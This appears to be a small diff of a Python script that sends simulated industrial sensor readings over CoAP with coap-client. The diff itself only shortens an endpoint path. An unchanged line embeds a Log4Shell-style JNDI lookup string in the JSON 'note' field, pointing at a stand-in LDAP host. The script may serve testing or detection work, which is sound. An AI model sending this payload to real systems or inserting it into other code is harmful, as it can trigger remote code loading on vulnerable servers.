@@ -118,7 +118,7 @@ def workshop():
             subprocess.run(
                 ["coap-client", "-B", "5", "-m", "post", "-t", "application/json",
                  "-e", json.dumps({"time": int(now * 1000), "seq": seq, "temp": 20, "note": "${jndi:ldap://198.51.100.7/a}"}),
-                 f"coap://{TARGET}/shop/press-5/machine"],
+                 f"coap://{TARGET}/t/press-5/machine"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)
     for p in presses.values():
         p.stdin.close()
